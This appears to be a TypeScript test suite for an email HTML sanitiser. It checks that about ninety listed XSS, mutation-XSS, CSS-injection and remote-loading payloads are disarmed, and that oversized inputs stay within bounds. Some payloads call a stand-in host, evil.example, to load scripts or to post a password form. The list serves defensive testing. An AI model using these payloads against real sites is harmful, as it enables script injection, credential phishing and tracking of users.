import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { LONGEST_HTML, sanitiseLetterHtml, withPictures } from './sanitise-letter.ts'

const clean = (html: string): string => sanitiseLetterHtml(html).html

/** Each is a way that has worked somewhere. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`' + '` onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\tscript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/v1/session">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<input type=image src="https://evil.example/x.png">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<body onload=alert(1) background="https://evil.example/x.png">x</body>',
  '<table background="https://evil.example/x.png"><td background="javascript:alert(1)">x</table>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-image:url(\'https://evil.example\')">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<div style="position:fixed;top:0;left:0;z-index:99999;width:100%;height:100%">x</div>',
  '<div style="pos\\69tion:fixed">x</div>',
  '<div style="background:u\\72l(https://evil.example)">x</div>',
  '<div style="color:red;/*x*/position:absolute">x</div>',
  '<div style="color:red}*{background:url(https://evil.example)}">x</div>',
  '<div style="margin-top:-9999px">x</div>',
  '<div style="list-style:url(https://evil.example)">x</div>',
  '<div style="content:attr(x)">x</div>',
  '<div style="color:var(--x)">x</div>',
  '<div style="cursor:url(https://evil.example),auto">x</div>',
  '<div class="inbox-toolbar evil">x</div>',
  '<div id="root">x</div>',
  '<img srcset="https://evil.example/x.png 2x" src="cid:a">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://evil.example/x.png" style="position:fixed">',
  '<picture><source srcset="https://evil.example/x.png"><img src="https://evil.example/y.png"></picture>',
  '<input onfocus=alert(1) autofocus>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<template><img src=x onerror=alert(1)></template>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<img alt="&quot; onerror=&quot;alert(1)" src=x>',
  '<div><p><custom><div>x</div></custom></p></div>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<applet code="x"></applet>',
  '<p data-cid="x" data-remote-image="3">x</p>',
  '<img data-remote-image="javascript:alert(1)" data-cid="&quot;><script>">',
  '<div dir="rtl" onmouseover="alert(1)">x</div>',
  '<plaintext><script>alert(1)</script>',
  '<image src=x onerror=alert(1)>',
  '<portal src="https://evil.example"></portal>',
  '<span style="font-family:\'x;position:fixed\'">x</span>',
]

/** What an element may look like: a name of the list, and attributes without a way to load or run anything. */
function expectHarmless(html: string): void {
  for (const [element, name = '', rest = ''] of html.matchAll(/<\/?([^\s>/]*)([^>]*)>/g)) {
    expect(
      'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
        ' ',
      ),
      element,
    ).toContain(name)
    const left = rest.replace(/ ([a-z-]+)(?:="([^"]*)")?/g, (_, attribute: string, value = '') => {
      expect(attribute, element).not.toMatch(
        /^(?:on|src|srcset|background|action|formaction|id|name|ping|xlink|srcdoc|data$)/,
      )
      if (attribute === 'href') expect(value, element).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i)
      if (attribute === 'class') expect(value).toBe('tributary-quoted')
      if (attribute === 'data-remote-image') expect(value).toMatch(/^\d{1,3}$/)
      if (attribute === 'style') {
        expect(value, element).not.toMatch(
          /\\|\/\*|@|url|expression|position|z-index|behavior|binding|var\(|-\d/i,
        )
      }
      return ''
    })
    expect(left.replace(/[ /]/g, ''), element).toBe('')
  }
  expect(html.replace(/<\/?[a-z][^<>]*>/g, '')).not.toMatch(/[<>]/)
}

const pieces = fc.constantFrom(
  ...ATTACKS,
  '<p>',
  '</p>',
  '<div>',
  '</div>',
  '<table>',
  '<tr>',
  '<td>',
  '</table>',
  '<custom>',
  '</custom>',
  '<center>',
  '<body>',
  '<html>',
  '<ul><li>',
  '<b>',
  '&lt;script&gt;',
  '&amp;lt;',
  '"',
  "'",
  '<',
  '>',
  '<!--',
  '-->',
  '<img src="cid:x&quot;y">',
  '<img src="https://a.example/1.png?a=1&amp;b=2">',
  '\u0000',
  '\uD800',
  '<a href="https://ok.example/a b">',
  '<body style="color:red;display:none">',
  '<body bgcolor="#ffffff" text="black">',
  '<img border=0 alt=a src="cid:x">',
  '<table border=1 style="width:100%" width=5>',
)

describe('the sanitiser of letters', () => {
  it.each(ATTACKS)('disarms %s', (html) => {
    expectHarmless(clean(html))
    expectHarmless(clean(`<div>before${html}after</div>`))
  })

  it('disarms whatever they are put together to, and finds nothing more to do in what it made', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 30 }), (parts) => {
        const once = clean(parts.join(''))
        expectHarmless(once)
        expect(clean(once)).toBe(once)
      }),
      { numRuns: 500 },
    )
  })

  it('keeps what makes a letter readable', () => {
    const html =
      '<h1 style="color:#336699;font-size:18pt">Offer</h1><p>Dear <b>Ada</b>,<br>see <a href="https://shop.example/?a=1&amp;b=2">here</a></p>' +
      '<table border="1" cellpadding="4"><tr><td colspan="2" bgcolor="#eeeeee">1</td></tr></table>' +
      '<blockquote class="x tributary-quoted" type="cite">old</blockquote>'
    expect(clean(html)).toBe(
      '<h1 style="color:#336699;font-size:18pt">Offer</h1><p>Dear <b>Ada</b>,<br />see <a href="https://shop.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">here</a></p>' +
        '<table border="1" cellpadding="4"><tr><td bgcolor="#eeeeee" colspan="2">1</td></tr></table>' +
        '<blockquote class="tributary-quoted">old</blockquote>',
    )
  })

  it('names remote pictures by their place and the letter’s own by their id', () => {
    const { html, remoteImages } = sanitiseLetterHtml(
      '<img src="https://a.example/1.png" width="1"><img src="CID:logo%40x"><img src="//b.example/2.png"><img src="https://a.example/1.png"><img src="ftp://x/y">',
    )
    expect(remoteImages).toEqual(['https://a.example/1.png', 'https://b.example/2.png'])
    expect(html).toBe(
      '<img width="1" data-remote-image="0" /><img data-cid="logo@x" /><img data-remote-image="1" /><img data-remote-image="0" /><img />',
    )
    expect(
      withPictures(`data-cid="logo@x"${html}`, (id) => (id === 'logo@x' ? '/files/1?a&b' : undefined)),
    ).toBe(`data-cid="logo@x"${html.replace('data-cid="logo@x"', 'src="/files/1?a&amp;b"')}`)
  })

  it('takes no more pictures than two hundred', () => {
    const html = Array.from({ length: 300 }, (_, index) => `<img src="https://a.example/${index}">`).join('')
    const { remoteImages, html: made } = sanitiseLetterHtml(html)
    expect(remoteImages).toHaveLength(200)
    expect(made.match(/data-remote-image/g)).toHaveLength(200)
  })

  it.each([
    ['a flood of marks', '&'.repeat(3_000_000)],
    ['depth', '<div>'.repeat(300_000)],
    ['unknown depth', '<x>'.repeat(300_000)],
    ['links', '<a href="https://x.example">'.repeat(100_000)],
    ['open attributes', '<a b="'.repeat(300_000)],
    ['open comments', '<!--'.repeat(300_000)],
    ['a long style', `<p style="${'color:red;'.repeat(200_000)}">x</p>`],
    ['many styles', `<p style="${'font-family: '.repeat(150)}">x</p>`.repeat(1_000)],
    ['many attributes', `<p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=1`).join(' ')}>x</p>`],
    ['closing ones', '</p>'.repeat(500_000)],
  ])('stays within bounds at %s', (_, html) => {
    const once = clean(html)
    expect(once.length).toBeLessThanOrEqual(LONGEST_HTML)
    // Not compared as texts: nobody reads a difference of two megabytes.
    expect(clean(once) === once).toBe(true)
  })
})
